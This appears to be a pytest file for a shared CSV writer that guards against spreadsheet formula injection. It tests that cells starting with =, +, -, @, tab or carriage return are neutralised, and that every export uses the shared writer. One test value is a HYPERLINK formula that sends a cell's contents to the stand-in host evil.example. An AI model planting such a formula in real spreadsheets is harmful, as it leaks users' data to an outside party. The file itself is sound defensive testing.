"""The one spreadsheet-safe CSV writer (core/csv_export.py) and the rule that every export uses it."""

import csv
import io
import re
from decimal import Decimal
from pathlib import Path

import pytest

from core.csv_export import csv_writer, safe_cell

ROOT = Path(__file__).resolve().parents[2]
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'


@pytest.mark.parametrize(("value", "expected"), [
    (FORMULA, "'" + FORMULA),
    ("+1+1", "'+1+1"),
    ("-1+1", "'-1+1"),
    ("-5", "'-5"),  # text that looks like a number is still text: it came from a person
    ("@SUM(A1)", "'@SUM(A1)"),
    ("\tcmd", "'\tcmd"),
    ("\rcmd", "'\rcmd"),
    ("Plain name", "Plain name"),
    ("a=b", "a=b"),  # only the first character matters
    ("", ""),
    (None, ""),
    (-5, -5),  # a real number stays a number (a negative amount)
    (Decimal("-12.50"), Decimal("-12.50")),
    (-0.5, -0.5),
    (True, True),
])  # fmt: skip
def test_safe_cell(value, expected):
    assert safe_cell(value) == expected


def test_the_writer_returns_what_the_stream_returns_and_neutralises_each_cell():
    class Echo:
        def write(self, value):
            return value

    line = csv_writer(Echo()).writerow(["=1+1", -3, "ok"])
    assert line == "'=1+1,-3,ok\r\n"
    out = io.StringIO()
    csv_writer(out).writerows([["@x", None], ["y", Decimal("2.5")]])
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [["'@x", ""], ["y", "2.5"]]


def test_every_csv_export_uses_the_shared_writer():
    """No module writes CSV with the csv module directly: new exports get the formula guard for free."""
    offenders = []
    for path in ROOT.rglob("*.py"):
        relative = path.relative_to(ROOT)
        if relative.parts[0] in {".venv", "bench", "node_modules"} or "tests" in relative.parts:
            continue
        if relative == Path("core/csv_export.py"):
            continue
        if re.search(r"\bcsv\.(writer|DictWriter)\b|from csv import .*\b(writer|DictWriter)\b", path.read_text()):
            offenders.append(str(relative))
    assert not offenders, f"write CSV through core.csv_export.csv_writer, not the csv module: {offenders}"
